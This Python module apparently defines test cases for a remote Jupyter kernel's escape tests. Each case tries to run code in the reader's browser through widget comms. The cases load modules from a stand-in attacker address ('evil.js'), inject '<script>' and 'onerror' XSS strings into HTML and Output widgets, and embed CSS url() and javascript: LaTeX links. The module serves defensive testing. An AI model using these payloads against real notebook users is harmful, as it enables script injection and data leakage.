"""Getting into the reader's browser by comms and widgets, whose modules a page loads and runs."""

from __future__ import annotations

from functools import partial

from coderemote_kernel.escape.attack import Attack, Category

__all__ = ["ATTACKS"]

_attack = partial(Attack, category=Category.BROWSER, stock=True)
_START = """
away = f"http://127.0.0.1:{T['tcp']}/"
def widget(model, module="@jupyter-widgets/controls", buffers=(), paths=(), **state):
    ident = os.urandom(8).hex()
    state = {"_model_module": module, "_model_module_version": "2.0.0", "_model_name": model + "Model",
             "_view_module": module, "_view_module_version": "2.0.0", "_view_name": model + "View", **state}
    data = {"state": state, "buffer_paths": list(paths)}
    send("comm_open", {"comm_id": ident, "target_name": "jupyter.widget", "data": data},
         metadata={"version": "2.1.0"}, buffers=list(buffers))
    return ident
def update(ident, buffers=(), paths=(), **state):
    send("comm_msg", {"comm_id": ident, "data": {"method": "update", "state": state, "buffer_paths": list(paths)}}, buffers=list(buffers))
attempt()
"""


def _cell(name: str, title: str, code: str) -> Attack:
    return _attack(id=f"widgets-{name}", title=title, code=_START + code)


ATTACKS = (
    _cell(
        "target",
        "open comms to targets of other extensions",
        "for target in ('crm_target', 'ipython_console', 'hv-extension-comm', 'bokeh', 'jupyter.widget.version2', '', '__proto__', 'matplotlib'):\n"
        "    send('comm_open', {'comm_id': os.urandom(8).hex(), 'target_name': target, 'data': {}})\n",
    ),
    _cell(
        "target-module",
        "have the page load a module for a comm",
        "send('comm_open', {'comm_id': 'x1', 'target_name': 'jupyter.widget', 'target_module': away + 'evil.js', 'data': {}})\n",
    ),
    _cell(
        "module",
        "widgets whose code is on a CDN or at any address",
        "for module in ('crm-evil', away + 'evil', '//cdn.example/evil', '../evil', '@jupyter-widgets/controls/../../evil', '@jupyter-widgets/Controls'):\n"
        "    widget('Evil', module)\n",
    ),
    _cell(
        "module-types",
        "module names that are not text",
        "for module in (['@jupyter-widgets/base'], {'x': 1}, 7, True):\n    widget('Evil', module)\n",
    ),
    _cell(
        "module-update",
        "a core widget that changes its module later",
        "ident = widget('IntSlider', value=1)\n"
        "update(ident, _view_module=away + 'evil', _view_name='Evil')\n"
        "update(ident, _model_module='crm-evil')\n",
    ),
    _cell(
        "html-value",
        "the HTML widget's value",
        "ident = widget('HTML', value='<img src=x onerror=evil()>')\n"
        "update(ident, value='<script>evil()</script>')\n"
        "update(ident, value=f'<img src={away}>')\n"
        "widget('HTMLMath', value='<iframe srcdoc=\"<script>evil()</script>\"></iframe>')\n",
    ),
    _cell(
        "html-description",
        "HTML in descriptions",
        "widget('IntSlider', description='<img src=x onerror=evil()>', description_allow_html=True)\n"
        "widget('Button', description='<script>evil()</script>', description_allow_html=True)\n",
    ),
    _cell(
        "image-url",
        "an image, sound and video widget that fetch",
        "widget('Image', format='url', buffers=[away.encode()], paths=[['value']])\n"
        "ident = widget('Image', format='png')\n"
        "update(ident, format='url', buffers=[away.encode()], paths=[['value']])\n"
        "widget('Video', format='url', autoplay=True, buffers=[away.encode()], paths=[['value']])\n"
        "widget('Audio', format='url', autoplay=True, buffers=[away.encode()], paths=[['value']])\n",
    ),
    _cell(
        "output",
        "active outputs in an Output widget",
        "active = [{'output_type': 'display_data', 'data': {'application/javascript': 'evil()', 'text/html': '<script>evil()</script>'}, 'metadata': {}}]\n"
        "ident = widget('Output', '@jupyter-widgets/output', outputs=active)\n"
        "update(ident, outputs=active)\n",
    ),
    _cell(
        "echo",
        "state by the echo of an update",
        "ident = widget('HTML', value='')\n"
        "state = {'value': '<script>evil()</script>', '_view_module': 'crm-evil'}\n"
        "send('comm_msg', {'comm_id': ident, 'data': {'method': 'echo_update', 'state': state}})\n",
    ),
    _cell(
        "unknown-comm",
        "messages on comms that were never opened",
        "for ident in ('never-opened', '', 'x' * 100_000):\n"
        "    send('comm_msg', {'comm_id': ident, 'data': {'method': 'update', 'state': {'_view_module': 'crm-evil', 'value': '<script>'}}})\n"
        "    send('comm_close', {'comm_id': ident, 'data': {}})\n",
    ),
    _cell(
        "layout",
        "addresses in layouts and styles",
        "widget('Layout', '@jupyter-widgets/base', border_left=f'url({away})', grid_area=f'url({away})')\n"
        "widget('ButtonStyle', button_color=f'url({away})', text_decoration=f'url({away})')\n"
        "widget('Box', _dom_classes=['x'], box_style=f'url({away})')\n",
    ),
    _cell(
        "typeset",
        "LaTeX in labels, which the page typesets",
        "widget('Label', value='$\\\\href{javascript:evil()}{x}$')\n"
        "widget('HTMLMath', value='$$\\\\style{background:url(AWAY)}{x}$$'.replace('AWAY', away))\n",
    ),
    _cell(
        "view",
        "a view whose model is of another module",
        "from IPython.display import display\n"
        "ident = widget('Evil', 'crm-evil')\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': ident, 'version_major': 2, 'version_minor': 0}, 'text/plain': 'x'}, raw=True)\n"
        "display({'application/vnd.jupyter.widget-state+json': {'state': {}}, 'text/plain': 'x'}, raw=True)\n",
    ),
)
